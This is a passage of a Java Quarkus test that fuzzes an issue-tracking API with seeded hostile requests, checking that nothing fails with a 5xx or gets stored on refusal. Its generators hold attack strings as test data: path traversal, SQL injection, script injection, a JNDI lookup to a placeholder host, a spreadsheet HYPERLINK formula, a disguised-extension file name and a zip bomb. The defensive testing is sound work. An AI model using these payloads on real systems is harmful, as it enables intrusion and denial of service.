package io.zhenggai.issue.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;

import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.zhenggai.issue.Api;
import io.zhenggai.issue.evidence.Files;
import io.zhenggai.local.test.JwtTestResource;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.sessions.JqwikSession;

/**
 * Thousands of generated hostile requests to every write operation and to the issue list's query: wrong JSON types,
 * deep nesting, numbers no figure needs (1e999, 1e-400, -0, a hundred digits), NaN as text, long and odd unicode
 * texts, nulls, arrays where objects go, odd If-Match, Idempotency-Key and Content-Type headers, and odd query
 * strings; uploads of evidence with odd media types, file names (paths, control and direction characters, very
 * long), Content-Disposition headers and bodies (empty, random, of another type, a type's first bytes only). Whatever comes, the answer is never a 5xx, every 4xx is a problem document, and a refused request stores
 * nothing and journals nothing.
 * <p>
 * jqwik's generators are used without its engine (a {@code @Property} does not run inside {@code @QuarkusTest}):
 * each value is drawn from a {@link Random} with a fixed seed, so a failure is reproduced by running the test again;
 * its message names the attempt's number and request.
 */
@QuarkusTest
class HostileInputTest {

    static final long SEED = 20_250_611L;
    static final Pattern PROBLEM_TYPE = Pattern.compile("\"type\":\"https://zhenggai.io/problems/([a-z0-9-]+)\"");
    static final int GEN_SIZE = 1000;
    static final Map<String, Integer> ATTEMPTS = new LinkedHashMap<>();

    static {
        ATTEMPTS.put("POST /api/issues/{id}/progress", 700);
        ATTEMPTS.put("POST /api/issues/{id}/evidence", 300);
        ATTEMPTS.put("POST /api/issues/{id}/transitions", 300);
        ATTEMPTS.put("PATCH /api/issues/{id}", 250);
        ATTEMPTS.put("POST /api/issues", 250);
        ATTEMPTS.put("POST /api/inspections", 200);
        ATTEMPTS.put("POST /api/imports/bulletins", 150);
        ATTEMPTS.put("POST /api/imports/ledger", 120);
        ATTEMPTS.put("POST /api/journal/republish", 100);
        ATTEMPTS.put("GET /api/issues", 350);
        ATTEMPTS.put("POST /api/issues/assignments", 200);
        ATTEMPTS.put("POST /api/issues/{id}/signature", 100);
        ATTEMPTS.put("POST /api/issues/{id}/progress/preview", 150);
        ATTEMPTS.put("POST /api/issues/{id}/extensions", 150);
        ATTEMPTS.put("POST /api/issues/{id}/extensions/{extensionId}/decision", 100);
        ATTEMPTS.put("POST /api/issues/{id}/instructions", 100);
        ATTEMPTS.put("POST /api/issues/{id}/progress/{reportId}/corrections", 150);
        ATTEMPTS.put("POST /api/issues/{id}/urge", 150);
        ATTEMPTS.put("GET /api/inbox", 100);
        ATTEMPTS.put("POST /api/inbox/{itemId}/read", 50);
        ATTEMPTS.put("GET /api/admin/webhook-deliveries", 50);
        ATTEMPTS.put("GET /api/admin/inbox-skips", 30);
    }

    /** A request to send: who sends it, how, and a one-line description for a failure message. */
    record Attempt(String caller, String method, String path, String contentType, Map<String, String> headers,
                   Map<String, String> query, byte[] body) {

        String describe() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method + " " + path + " as " + caller + " " + query + " " + headers + " [" + contentType + "] "
                    + (text.length() > 300 ? text.substring(0, 300) + "…(" + text.length() + ")" : text);
        }
    }

    @Inject
    DataSource dataSource;

    final Random random = new Random(SEED);

    <T> T draw(Arbitrary<T> arbitrary) {
        return arbitrary.generator(GEN_SIZE).next(random).value();
    }

    @Test
    void shouldNeverFailNorStoreAnythingWhenItRefusesHostileInput() throws SQLException {
        JqwikSession.start(); // generators outside a property: memoisation needs a session
        try {
            sendAll();
        } finally {
            JqwikSession.finish();
        }
    }

    void sendAll() throws SQLException {
        String inspection = Api.inspection();
        List<String> issues = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            issues.add(Api.issue(inspection, i < 3 ? "2030-01-01" : null));
        }
        // the workflow's steps meet issues in each state: assigned and signed for, assigned only, never assigned
        for (int i = 0; i < 3; i++) {
            Api.office().body("""
                            {"items": [{"issueId": "%s", "ifMatch": "*", "leadUnit": "党政办公室", "coUnits": ["经济发展局"],
                                        "leadLeaders": ["张三"], "deadline": "2030-01-01"}]}""".formatted(issues.get(i)))
                    .post("/api/issues/assignments").then().statusCode(200);
        }
        for (int i = 0; i < 2; i++) {
            unit().header("If-Match", "*").body("{}").post("/api/issues/" + issues.get(i) + "/signature").then()
                    .statusCode(200);
        }
        List<String> reports = new ArrayList<>();
        for (String issue : List.of(issues.get(0), issues.get(3), issues.get(4))) {
            reports.add(unit().body("{\"text\": \"已完成投资3.1亿元，已化解16件，未化解5件，化解率90%\"}")
                    .post("/api/issues/" + issue + "/progress").then().statusCode(201).extract().path("progress[0].id"));
        }
        Map<String, Function<Integer, Attempt>> kinds = kinds(inspection, issues, reports);
        List<String> failures = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        Map<String, Integer> problems = new TreeMap<>();
        int sent = 0;
        long started = System.nanoTime();
        for (var kind : ATTEMPTS.entrySet()) {
            for (int n = 0; n < kind.getValue(); n++) {
                Attempt attempt = kinds.get(kind.getKey()).apply(n);
                long[] before = stored();
                HttpResponse<String> response = send(attempt);
                sent++;
                int status = response.statusCode();
                statuses.merge(status, 1, Integer::sum);
                String where = "#" + sent + " " + attempt.describe() + " → " + status + " "
                        + abbreviate(response.body());
                if (status >= 500) {
                    failures.add("5xx: " + where);
                } else if (status >= 400) {
                    String type = response.headers().firstValue("Content-Type").orElse("");
                    if (!type.startsWith(Problem.MEDIA_TYPE)) {
                        failures.add("not a problem: " + where);
                    }
                    Matcher slug = PROBLEM_TYPE.matcher(response.body());
                    problems.merge(slug.find() ? slug.group(1) : "?", 1, Integer::sum);
                    long[] after = stored();
                    if (after[0] != before[0] || after[1] != before[1]) {
                        failures.add("stored on a refusal: " + where);
                    }
                }
            }
        }
        long seconds = (System.nanoTime() - started) / 1_000_000_000L;
        System.out.printf("HostileInputTest: %d requests in %d s, by status %s, refusals by problem %s%n", sent,
                seconds, statuses, problems);
        assertThat(failures).as("of %d requests (seed %d)", sent, SEED).isEmpty();
        assertThat(sent).isGreaterThanOrEqualTo(2000);
        assertThat(statuses.keySet()).as("the generators reach refusals and successes alike")
                .anyMatch(s -> s >= 200 && s < 300).anyMatch(s -> s == 400).anyMatch(s -> s == 422)
                .anyMatch(s -> s == 415);
        assertThat(problems).as("uploads reach their own refusals").containsKeys("evidence-type-mismatch",
                "evidence-type-not-accepted", "invalid-file-name", "empty-file");
    }

    // ---- what is stored: the journal's last position and the rows a write adds

    long[] stored() throws SQLException {
        try (Connection connection = dataSource.getConnection(); Statement statement = connection.createStatement();
             ResultSet row = statement.executeQuery("""
                     SELECT (SELECT last FROM journal_position WHERE id = 1),
                            (SELECT count(*) FROM inspection) + (SELECT count(*) FROM issue)
                            + (SELECT count(*) FROM measure) + (SELECT count(*) FROM progress_report)
                            + (SELECT count(*) FROM idempotency_key) + (SELECT count(*) FROM bulletin_import)
                            + (SELECT count(*) FROM extension_request) + (SELECT count(*) FROM instruction)
                            + (SELECT count(*) FROM evidence) + (SELECT count(*) FROM evidence_blob)
                            + (SELECT count(*) FROM evidence_chunk)""")) {
            row.next();
            return new long[]{row.getLong(1), row.getLong(2)};
        }
    }

    // ---- sending: a plain HTTP client, which sends any body with any header as it is

    final HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @TestHTTPResource("/")
    URI root;

    HttpResponse<String> send(Attempt attempt) {
        StringBuilder query = new StringBuilder();
        attempt.query().forEach((name, value) -> query.append(query.isEmpty() ? "?" : "&")
                .append(URLEncoder.encode(name, StandardCharsets.UTF_8)).append('=')
                .append(URLEncoder.encode(value, StandardCharsets.UTF_8)));
        HttpRequest.Builder request = HttpRequest.newBuilder(root.resolve(attempt.path() + query))
                .timeout(Duration.ofSeconds(30))
                .method(attempt.method(), attempt.body() == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(attempt.body()));
        if (attempt.caller() != null) {
            request.header("Authorization", "Bearer " + switch (attempt.caller()) {
                case "unit" -> JwtTestResource.token("hostile-unit", "unit", "党政办公室");
                case "leader" -> JwtTestResource.named("hostile-leader", "张三", "leader");
                default -> JwtTestResource.token("hostile-" + attempt.caller(), attempt.caller());
            });
        }
        if (attempt.contentType() != null) {
            request.header("Content-Type", attempt.contentType());
        }
        attempt.headers().forEach(request::header);
        try {
            return client.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException("could not send " + attempt.describe(), e);
        }
    }

    // ---- the requests of each kind

    static io.restassured.specification.RequestSpecification unit() {
        return io.restassured.RestAssured.given().auth().oauth2(JwtTestResource.token("hostile-unit", "unit", "党政办公室"))
                .contentType("application/json");
    }

    Map<String, Function<Integer, Attempt>> kinds(String inspection, List<String> issues, List<String> reports) {
        Map<String, Function<Integer, Attempt>> kinds = new LinkedHashMap<>();
        Arbitrary<String> issue = Arbitraries.of(issues);
        Arbitrary<String> someId = Arbitraries.oneOf(Arbitraries.of(UUID.randomUUID().toString(), "not-a-uuid",
                "00000000-0000-0000-0000-000000000000"), Arbitraries.of(issues));
        kinds.put("POST /api/issues/{id}/progress", n -> write(draw(Arbitraries.of("office", "unit")),
                "POST", "/api/issues/" + draw(issue) + "/progress",
                Arbitraries.oneOf(figures(), typedProgress(), progress())));
        kinds.put("POST /api/issues/{id}/evidence", n -> upload(draw(issue)));
        kinds.put("POST /api/issues/{id}/transitions", n -> write(draw(Arbitraries.of("office", "unit")), "POST",
                "/api/issues/" + draw(issue) + "/transitions", Arbitraries.oneOf(typedTransition(), transition())));
        kinds.put("PATCH /api/issues/{id}", n -> write("office", "PATCH", "/api/issues/" + draw(issue),
                Arbitraries.oneOf(typedPatch(), patch())));
        kinds.put("POST /api/issues", n -> write("office", "POST", "/api/issues", createIssue(inspection)));
        kinds.put("POST /api/inspections", n -> write("office", "POST", "/api/inspections", createInspection()));
        kinds.put("POST /api/imports/bulletins", n -> bulletin());
        kinds.put("POST /api/imports/ledger", n -> ledger(issues));
        kinds.put("POST /api/journal/republish", n -> write("operator", "POST", "/api/journal/republish",
                republish()));
        kinds.put("GET /api/issues", n -> new Attempt(draw(Arbitraries.of("office", "unit", "viewer")), "GET",
                "/api/issues", null, Map.of(), queryOf(inspection), null));
        kinds.put("POST /api/issues/{id}/urge", n -> write("office", "POST", "/api/issues/" + draw(issue) + "/urge",
                objectOf(Arbitraries.oneOf(Arbitraries.just("\"message\": \"请加快推进\""),
                                TEXT.map(t -> "\"message\": " + quote(t))),
                        Arbitraries.oneOf(Arbitraries.of("[\"党政办公室\"]", "[\"经济发展局\"]", "[]", "[\"\"]", "[null]",
                                "\"党政办公室\"", "[1]"), TEXT.map(t -> "[" + quote(t) + "]")).map(u -> "\"units\": " + u))));
        kinds.put("GET /api/inbox", n -> new Attempt(draw(Arbitraries.of("office", "unit", "leader", "viewer")), "GET",
                "/api/inbox", null, Map.of(), oddQuery(List.of("unread", "kind", "issue", "open", "page", "size",
                "unknown"), issues), null));
        kinds.put("POST /api/inbox/{itemId}/read", n -> new Attempt(draw(Arbitraries.of("office", "unit", "leader")),
                "POST", "/api/inbox/" + draw(someId) + "/read", null, Map.of(), Map.of(), null));
        kinds.put("GET /api/admin/webhook-deliveries", n -> new Attempt("operator", "GET",
                "/api/admin/webhook-deliveries", null, Map.of(), oddQuery(List.of("state", "webhook", "event", "limit",
                "unknown"), issues), null));
        kinds.put("GET /api/admin/inbox-skips", n -> new Attempt("operator", "GET", "/api/admin/inbox-skips", null,
                Map.of(), oddQuery(List.of("limit", "unknown"), issues), null));
        kinds.put("POST /api/issues/assignments", n -> write("office", "POST", "/api/issues/assignments",
                assignments(issues)));
        kinds.put("POST /api/issues/{id}/signature", n -> write(draw(Arbitraries.of("unit", "office")), "POST",
                "/api/issues/" + draw(issue) + "/signature", objectOf(field("note", "\"已签收\""))));
        kinds.put("POST /api/issues/{id}/progress/preview", n -> write(draw(Arbitraries.of("office", "unit")), "POST",
                "/api/issues/" + draw(issue) + "/progress/preview",
                Arbitraries.oneOf(figures(), typedProgress(), progress())));
        kinds.put("POST /api/issues/{id}/extensions", n -> write("unit", "POST",
                "/api/issues/" + draw(issue) + "/extensions", extension()));
        kinds.put("POST /api/issues/{id}/extensions/{extensionId}/decision", n -> write("office", "POST",
                "/api/issues/" + draw(issue) + "/extensions/" + draw(someId) + "/decision",
                objectOf(Arbitraries.of("APPROVED", "REJECTED", "approved", "MAYBE", "").map(d -> "\"decision\": "
                        + quote(d)), field("note", "\"同意延期\""))));
        kinds.put("POST /api/issues/{id}/instructions", n -> write(draw(Arbitraries.of("leader", "leader", "unit")),
                "POST", "/api/issues/" + draw(issue) + "/instructions",
                Arbitraries.oneOf(objectOf(field("text", "\"请加快推进\"")),
                        TEXT.map(t -> "{\"text\": " + quote(t) + "}"))));
        kinds.put("POST /api/issues/{id}/progress/{reportId}/corrections", n -> write(
                draw(Arbitraries.of("office", "unit")), "POST", "/api/issues/" + draw(issue) + "/progress/"
                        + draw(Arbitraries.oneOf(Arbitraries.of(reports), someId)) + "/corrections", correction()));
        return kinds;
    }

    static Arbitrary<String> assignments(List<String> issues) {
        Arbitrary<String> id = Arbitraries.oneOf(Arbitraries.of(issues).map(HostileInputTest::quote),
                Arbitraries.of("\"" + UUID.randomUUID() + "\"", "\"x\"", "null", "1"));
        Arbitrary<String> measureDeadline = objectOf(Arbitraries.of("0", "1", "-1", "9999", "10000", "1e3", "null",
                "\"0\"").map(m -> "\"measure\": " + m), DATE.map(d -> "\"deadline\": " + quote(d)));
        Arbitrary<String> item = objectOf(id.map(i -> "\"issueId\": " + i),
                Arbitraries.of("\"*\"", "\"1\"", "\"2\"", "\"99\"", "1", "null", "\"\"", "\"W/\\\"1\\\"\"")
                        .map(m -> "\"ifMatch\": " + m),
                field("leadUnit", "\"党政办公室\""), field("coUnits", "[\"经济发展局\"]"),
                field("leadLeaders", "[\"张三\"]"), DATE.map(d -> "\"deadline\": " + quote(d)),
                measureDeadline.list().ofMaxSize(3).map(l -> "\"measureDeadlines\": [" + String.join(",", l) + "]"),
                field("note", "\"请于期限内完成\""));
        return Arbitraries.frequencyOf(
                Tuple.of(6, item.list().ofMinSize(1).ofMaxSize(4).map(l -> "{\"items\": [" + String.join(",", l)
                        + "]}")),
                Tuple.of(1, Arbitraries.of("{\"items\": []}", "{\"items\": null}", "{\"items\": {}}",
                        "{\"items\": [null]}", "{}")),
                Tuple.of(1, value(2).map(v -> "{\"items\": " + v + "}")));
    }

    static Arbitrary<String> extension() {
        return objectOf(DATE.map(d -> "\"requestedDeadline\": " + quote(d)), field("reason", "\"项目审批延后\""));
    }

    static Arbitrary<String> correction() {
        Arbitrary<String> readings = Arbitraries.oneOf(reading().list().ofMaxSize(2)
                .map(list -> "[" + String.join(",", list) + "]"), value(1));
        return objectOf(Arbitraries.of("CORRECTED", "WITHDRAWN", "corrected", "EDITED", "")
                        .map(k -> "\"kind\": " + quote(k)), field("reason", "\"填报有误\""),
                Arbitraries.oneOf(Arbitraries.just("\"text\": \"已完成投资3.2亿元\""),
                        TEXT.map(t -> "\"text\": " + quote(t)), Arbitraries.just("")),
                readings.map(r -> "\"readings\": " + r), field("useTextReadings", "true"),
                field("statusLabel", "\"正在整改\""));
    }

    Attempt write(String caller, String method, String path, Arbitrary<String> body) {
        Map<String, String> headers = new LinkedHashMap<>();
        String ifMatch = draw(IF_MATCH);
        if (ifMatch != null) {
            headers.put("If-Match", ifMatch);
        }
        String key = draw(IDEMPOTENCY_KEY);
        if (key != null) {
            headers.put("Idempotency-Key", key);
        }
        String text = draw(Arbitraries.frequencyOf(
                Tuple.of(12, body),
                Tuple.of(2, value(3)),
                Tuple.of(1, DEEP),
                Tuple.of(1, GARBAGE)));
        return new Attempt(caller, method, path, draw(CONTENT_TYPE), headers, Map.of(),
                text.getBytes(StandardCharsets.UTF_8));
    }

    Attempt upload(String issue) {
        Map<String, String> headers = new LinkedHashMap<>();
        Map<String, String> query = new LinkedHashMap<>();
        String name = draw(FILE_NAME);
        switch (draw(Arbitraries.integers().between(0, 5))) {
            case 0 -> query.put("name", name);
            case 1, 2 -> headers.put("Content-Disposition", "attachment; filename*=UTF-8''"
                    + URLEncoder.encode(name, StandardCharsets.UTF_8).replace("+", "%20"));
            case 3 -> headers.put("Content-Disposition", "attachment; filename=\"" + asHeader(name) + "\"");
            case 4 -> headers.put("Content-Disposition", draw(DISPOSITION));
            default -> {
                headers.put("Content-Disposition", draw(DISPOSITION));
                query.put("name", name);
            }
        }
        return new Attempt(draw(Arbitraries.of("office", "office", "unit", "viewer")), "POST",
                "/api/issues/" + issue + "/evidence", draw(EVIDENCE_TYPE), headers, query, draw(EVIDENCE_BODY));
    }

    /** A name as a browser puts it in a quoted header value: its UTF-8 bytes, one character each. */
    static String asHeader(String name) {
        StringBuilder out = new StringBuilder();
        for (byte b : name.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            out.append(c < 0x20 || c == 0x7F ? '?' : (char) c); // what an HTTP header can carry
        }
        return out.toString();
    }

    Attempt bulletin() {
        String text = draw(Arbitraries.frequencyOf(
                Tuple.of(3, Combinators.combine(Arbitraries.of(SMALL_BULLETIN), NUMBER_TEXT,
                        Arbitraries.integers().between(0, SMALL_BULLETIN.length())).as((b, number, at) ->
                        b.substring(0, at) + "已完成投资" + number + "亿元，" + b.substring(at))),
                Tuple.of(1, TEXT),
                Tuple.of(1, GARBAGE)));
        boolean dryRun = draw(Arbitraries.of(true, false));
        String contentType = draw(Arbitraries.of("text/plain; charset=utf-8", "text/plain", "application/json",
                "text/plain; charset=iso-8859-1", "application/octet-stream"));
        return new Attempt("office", "POST", "/api/imports/bulletins", contentType, Map.of(),
                Map.of("dryRun", dryRun ? draw(Arbitraries.of("true", "TRUE", "1", "yes")) : "false"),
                text.getBytes(StandardCharsets.UTF_8));
    }

    /** A workbook that unpacks to 8 MiB of sheet from a few kilobytes: built once. */
    static byte[] bomb;

    /**
     * An Excel ledger import: foreign bytes, a cut workbook, a zip bomb, or a ledger of the test's issues (their id
     * and version, so that some rows are current) with hostile texts in the cells the import reads.
     */
    Attempt ledger(List<String> issues) {
        Arbitrary<Map<String, Object>> row = Combinators.combine(Arbitraries.of(issues), Arbitraries.of("1", "2", "3",
                        "99", "0", "-1", "x", ""), LEDGER_CELL, LEDGER_CELL, LEDGER_CELL,
                Arbitraries.of("牵头领导", "牵头单位", "配合单位", "完成时限", "整改状态", "状态表述", "进展日期", "最新进展",
                        "问题ID", "版本"))
                .as((issue, version, text, other, more, column) -> {
                    Map<String, Object> cells = new LinkedHashMap<>();
                    cells.put("问题ID", issue);
                    cells.put("版本", version);
                    cells.put("整改状态", "整改中");
                    cells.put(column, text);
                    cells.put("最新进展", other);
                    cells.put("完成时限", more);
                    return cells;
                });
        byte[] body = switch (draw(Arbitraries.integers().between(0, 9))) {
            case 0 -> draw(TEXT).getBytes(StandardCharsets.UTF_8);
            case 1 -> draw(GARBAGE).getBytes(StandardCharsets.UTF_8);
            case 2 -> {
                byte[] valid = io.zhenggai.issue.LedgerWorkbooks.ledger(List.of(draw(row)));
                yield java.util.Arrays.copyOf(valid, draw(Arbitraries.integers().between(0, valid.length - 1)));
            }
            case 3 -> {
                if (bomb == null) {
                    try {
                        bomb = io.zhenggai.issue.LedgerWorkbooks.padded(
                                io.zhenggai.issue.LedgerWorkbooks.ledger(List.of()), 8 * 1024 * 1024);
                    } catch (IOException e) {
                        throw new java.io.UncheckedIOException(e);
                    }
                }
                yield bomb;
            }
            default -> {
                List<Map<String, Object>> rows = draw(row.list().ofMinSize(1).ofMaxSize(3));
                try {
                    yield io.zhenggai.issue.LedgerWorkbooks.ledger(rows);
                } catch (RuntimeException unwritable) {
                    yield rows.toString().getBytes(StandardCharsets.UTF_8); // POI would not write such a cell
                }
            }
        };
        String contentType = draw(Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just(io.zhenggai.issue.LedgerWorkbooks.XLSX)),
                Tuple.of(1, Arbitraries.of("application/octet-stream", "text/plain", "application/json",
                        "application/vnd.ms-excel", "multipart/form-data; boundary=x"))));
        return new Attempt("office", "POST", "/api/imports/ledger", contentType, Map.of(),
                Map.of("dryRun", draw(Arbitraries.of("true", "false", "false", "TRUE", "1"))), body);
    }

    /** What a hostile user types into a ledger's cell. */
    static final Arbitrary<String> LEDGER_CELL = Arbitraries.oneOf(
            Arbitraries.of("2030-02-30", "2030/6/30", "2030年6月30日", "2020-01-01", "明天", "已完成", "已销号", "未启动",
                    "长期坚持", "基本完成", "张三、李四", "党政办公室、经济发展局", "已完成投资1e999亿元", "已完成投资3.1亿元",
                    "……（超出单元格长度，全文见系统）", "", " ", "长".repeat(300), "=HYPERLINK(\"http://x\")"),
            Arbitraries.lazy(() -> HostileInputTest.TEXT).map(t -> t.length() > 2000 ? t.substring(0, 2000) : t));

    // ---- generators

    static final Arbitrary<String> EVIDENCE_TYPE = Arbitraries.frequencyOf(
            Tuple.of(8, Arbitraries.of("application/pdf", "image/png", "image/jpeg", "image/gif", "image/webp",
                    "application/msword", "application/vnd.ms-excel",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")),
            Tuple.of(3, Arbitraries.of("application/pdf; charset=utf-8", "APPLICATION/PDF", "application/pdf;",
                    "application/pdf ; x=\"y\"", "image/png, image/jpeg", "*/*", "text/plain", "text/html",
                    "image/svg+xml", "application/zip", "application/octet-stream", "application/x-msdownload",
                    "multipart/form-data; boundary=x", "application/json", "garbage", "application/",
                    "application/" + "x".repeat(300), "image/png\u00e9")),
            Tuple.of(1, Arbitraries.just((String) null)));

    static final Arbitrary<String> FILE_NAME = Arbitraries.oneOf(
            Arbitraries.of("整改报告.pdf", "a.pdf", "../../etc/passwd", "..", ".", "a/b.pdf", "a\\b.pdf",
                    "C:\\Users\\x\\report.pdf", "a\u0000.pdf", "report\u202Efdp.exe", "\u200Bzero.pdf",
                    "line\nbreak.pdf", "tab\t.pdf", "\u0085next.pdf", "a\u2028b.pdf", "😀.pdf", "\ud800.pdf",
                    "x\udc00", " ", "", "x".repeat(255), "x".repeat(256), "长".repeat(255), "长".repeat(300),
                    "%2e%2e%2f", "CON", "e\u0301.pdf", "<script>.pdf", "a\"b.pdf", "a;b=c.pdf"),
            Arbitraries.lazy(() -> HostileInputTest.TEXT))
            // percent-encoded, it stays within the request line (4 KiB) and the headers (8 KiB): a longer one is refused
            // by the HTTP server itself (414/431) before it is a request of the API, see HostileInputRegressionTest
            .map(name -> name.length() > 300 ? name.substring(0, 300) : name);

    static final Arbitrary<String> DISPOSITION = Arbitraries.of("attachment", "inline", "attachment; filename",
            "attachment; filename=", "attachment; filename=\"", "attachment; filename=\"unterminated",
            "attachment; filename=\"a.pdf\" trailing", "attachment; filename=a.pdf; filename=b.pdf",
            "attachment; filename*=GBK''%D5%FB.pdf", "attachment; filename*=UTF-8''%ZZ.pdf",
            "attachment; filename*=UTF-8''%E6%95", "attachment; filename*=UTF-8''%C0%AF.pdf",
            "attachment; filename*=a.pdf", "attachment; filename*=UTF-8'zh'%E6%95%B4.pdf",
            "attachment; filename*=UTF-8''" + "%E9%95%BF".repeat(300), "attachment; filename*=UTF-8''%00.pdf",
            "attachment; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd", "attachment; filename=\"\u00e6\u0095\u00b4.pdf\"",
            "attachment; filename=\"a\\\"b.pdf\"", ";;;;", "attachment;" + " x=y;".repeat(100), "=",
            "attachment; filename*=UTF-8''%E2%80%AEfdp.exe");

    static final Arbitrary<byte[]> EVIDENCE_BODY = Arbitraries.oneOf(
            Arbitraries.of(new byte[0], Files.pdf(3000, 5), Files.png(), Files.jpeg(), Files.gif(), Files.webp(),
                    Files.docx(), Files.xlsx(), Files.zip("a.txt", "x"), Files.ole2("WordDocument"),
                    Files.ole2("Workbook"), Files.ole2(), "%PDF-".getBytes(StandardCharsets.US_ASCII),
                    "%PDF".getBytes(StandardCharsets.US_ASCII), "MZ\u0090".getBytes(StandardCharsets.ISO_8859_1),
                    "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8), new byte[]{(byte) 0xFF},
                    "PK\u0003\u0004".getBytes(StandardCharsets.ISO_8859_1),
                    Files.pdf(1024 * 1024 + 17, 6)),
            Arbitraries.bytes().array(byte[].class).ofMaxSize(3000),
            Arbitraries.bytes().array(byte[].class).ofMaxSize(3000).map(tail -> {
                byte[] head = "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII);
                byte[] all = java.util.Arrays.copyOf(head, head.length + tail.length);
                System.arraycopy(tail, 0, all, head.length, tail.length);
                return all;
            }));

    static final String SMALL_BULLETIN = AuthorizationMatrixTest.bulletin();

    /** Numbers as JSON writes them, many beyond any figure. */
    static final Arbitrary<String> NUMBER = Arbitraries.oneOf(
            Arbitraries.of("0", "-0", "1", "-1", "3.1", "0.0001", "1e999", "-1e999", "1e1001", "1e-400", "1E+18",
                    "999999999999999999", "1000000000000000000", "-1000000000000000000", "0.0000000000001",
                    "9007199254740993", "2147483648", "-2147483649", "1.7976931348623157E309", "4.9E-325",
                    "123456789012345678901234567890.5", "1" + "0".repeat(990)),
            Arbitraries.integers().map(String::valueOf),
            Arbitraries.bigDecimals().ofScale(20).map(java.math.BigDecimal::toPlainString));

    /** Printed quantities, some absurd, as a reading's "quantity" or a bulletin's figure carries them. */
    static final Arbitrary<String> NUMBER_TEXT = Arbitraries.oneOf(
            Arbitraries.of("3.1", "140", "0.05", "99999999999999", "1" + "0".repeat(30), "9".repeat(47),
                    "9".repeat(49), "0." + "0".repeat(20) + "1", "一千二百", "二〇二三二〇二三二〇二三二〇二三二〇二三",
                    "１，４６５", "-5", "若干"),
            Arbitraries.strings().numeric().ofMinLength(1).ofMaxLength(80));

    /** Texts of every kind: empty, long, control characters, half surrogate pairs, right-to-left marks, CJK. */
    static final Arbitrary<String> TEXT = Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(40),
            Arbitraries.strings().withCharRange('\u4e00', '\u9fff').ofMaxLength(30),
            Arbitraries.of("", " ", "\u0000", "a\u0000b", "\ud800", "\udc00x", "\u202e反转", "😀", "\uFEFF",
                    "' OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "../../etc/passwd",
                    "NaN", "Infinity", "-0", "1e999", "3.1亿元", "140余家", "0.05个百分点", "若干家",
                    "9".repeat(60) + "亿元", "%00", "\\u0000"),
            Arbitraries.integers().between(50, 60_000).map("长"::repeat));

    static final Arbitrary<String> QUERY_TEXT = Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(40),
            Arbitraries.strings().withCharRange('\u4e00', '\u9fff').ofMaxLength(30),
            Arbitraries.of("", " ", "\u0000", "a\u0000b", "\ud800", "\u202e反转", "😀", "' OR 1=1 --", "%00",
                    "NaN", "-0", "1e999", "9".repeat(60)),
            Arbitraries.integers().between(50, 300).map("长"::repeat));

    static final Arbitrary<String> DEEP = Arbitraries.integers().between(10, 3000).flatMap(depth ->
            Arbitraries.of("[".repeat(depth) + "]".repeat(depth),
                    "{\"a\":".repeat(depth) + "1" + "}".repeat(depth),
                    "[".repeat(depth)));

    static final Arbitrary<String> GARBAGE = Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(200),
            Arbitraries.of("", "{", "}", "null", "[]", "[null]", "\"\"", "{\"text\": }", "{\"text\": \"x\",}",
                    "{'text': 'x'}", "{\"text\": \"x\"}{}", "\uFEFF{\"text\": \"x\"}", "{\"text\": NaN}",
                    "{\"text\": \"x\", \"text\": 1}"));

    static final Arbitrary<String> IF_MATCH = Arbitraries.of("*", "\"1\"", "W/\"1\"", "1", "2", "0", "-1",
            "99999999999999999999", "\"abc\"", "", " ", ",,,", "\"1\", \"2\"", "W/", "x".repeat(4000), "é")
            .injectNull(0.4);

    static final Arbitrary<String> IDEMPOTENCY_KEY = Arbitraries.oneOf(
            Arbitraries.strings().ascii().ofMinLength(1).ofMaxLength(260)
                    .map(s -> s.replaceAll("[\\x00-\\x1f\\x7f]", "k")), // what an HTTP header can carry
            Arbitraries.of("", " ", "é", "x".repeat(201), UUID.randomUUID().toString())).injectNull(0.6);

    static final Arbitrary<String> CONTENT_TYPE = Arbitraries.frequencyOf(
            Tuple.of(10, Arbitraries.just("application/json")),
            Tuple.of(1, Arbitraries.of("application/json; charset=utf-8", "text/plain",
                    "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                    "application/json; charset=utf-16", "*/*", "garbage", "application/problem+json")),
            Tuple.of(1, Arbitraries.just((String) null)));

    /** Any JSON value, nested up to {@code depth}. */
    static Arbitrary<String> value(int depth) {
        Arbitrary<String> scalar = Arbitraries.oneOf(NUMBER, TEXT.map(HostileInputTest::quote),
                Arbitraries.of("null", "true", "false"));
        if (depth == 0) {
            return scalar;
        }
        Arbitrary<String> inner = Arbitraries.lazy(() -> value(depth - 1));
        return Arbitraries.frequencyOf(
                Tuple.of(6, scalar),
